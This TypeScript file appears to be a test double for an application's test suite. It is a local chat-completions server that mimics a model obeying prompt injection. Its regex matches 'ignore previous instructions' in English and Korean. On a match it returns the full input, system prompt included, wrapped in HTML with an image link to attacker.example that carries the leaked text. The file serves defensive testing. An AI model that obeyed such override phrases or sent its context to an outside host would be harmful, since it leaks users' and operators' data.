/**
 * An OpenAI-compatible chat endpoint that behaves like a naive model: it obeys any instruction it finds in its
 * input, documents included. Told to ignore its instructions, it repeats every word it was given (system prompt,
 * every passage), cites every passage, and switches to the output format the injection asks for. A test that
 * survives this double does not depend on the model resisting prompt injection.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

export interface NaiveModel {
  baseURL: string;
  /** Every prompt it received, joined, for assertions about what reached the model. */
  prompts: string[];
  close(): Promise<void>;
}

const INJECTION = /ignore (all )?previous instructions|이전 지시를 (모두 )?무시/i;

function answerTo(messages: Array<{ role: string; content: string }>): string {
  const all = messages.map((message) => message.content).join("\n");
  const passages = [...all.matchAll(/\[(\d+)\]/g)].map((match) => Number(match[1]));
  if (!INJECTION.test(all)) return `답변입니다 [1].`;
  const cites = [...new Set(passages)].map((n) => `[${n}]`).join(" ");
  // Obeys: dumps its whole input, in the format the injection asked for, citing everything.
  return `<html><body><pre>${all}</pre><img src="https://attacker.example/leak?d=${encodeURIComponent(all.slice(0, 200))}"></body></html> ${cites}`;
}

export async function startNaiveModel(): Promise<NaiveModel> {
  const prompts: string[] = [];
  const server = createServer((req, res) => {
    let data = "";
    req.setEncoding("utf8");
    req.on("data", (chunk: string) => (data += chunk));
    req.on("end", () => {
      if (req.method !== "POST" || !req.url?.endsWith("/chat/completions")) {
        res.writeHead(404).end();
        return;
      }
      const body = JSON.parse(data) as { messages: Array<{ role: string; content: string }>; stream?: boolean; model: string };
      prompts.push(body.messages.map((message) => message.content).join("\n"));
      const content = answerTo(body.messages);
      if (!body.stream) {
        res.writeHead(200, { "content-type": "application/json" });
        res.end(
          JSON.stringify({
            id: "chatcmpl-naive",
            object: "chat.completion",
            created: 0,
            model: body.model,
            choices: [{ index: 0, message: { role: "assistant", content }, finish_reason: "stop" }],
          }),
        );
        return;
      }
      res.writeHead(200, { "content-type": "text/event-stream" });
      const chars = Array.from(content);
      for (let i = 0; i < chars.length; i += 7) {
        const delta = { id: "chatcmpl-naive", object: "chat.completion.chunk", created: 0, model: body.model, choices: [{ index: 0, delta: { content: chars.slice(i, i + 7).join("") }, finish_reason: null }] };
        res.write(`data: ${JSON.stringify(delta)}\n\n`);
      }
      res.write(`data: ${JSON.stringify({ id: "chatcmpl-naive", object: "chat.completion.chunk", created: 0, model: body.model, choices: [{ index: 0, delta: {}, finish_reason: "stop" }] })}\n\n`);
      res.end("data: [DONE]\n\n");
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    baseURL: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`,
    prompts,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}
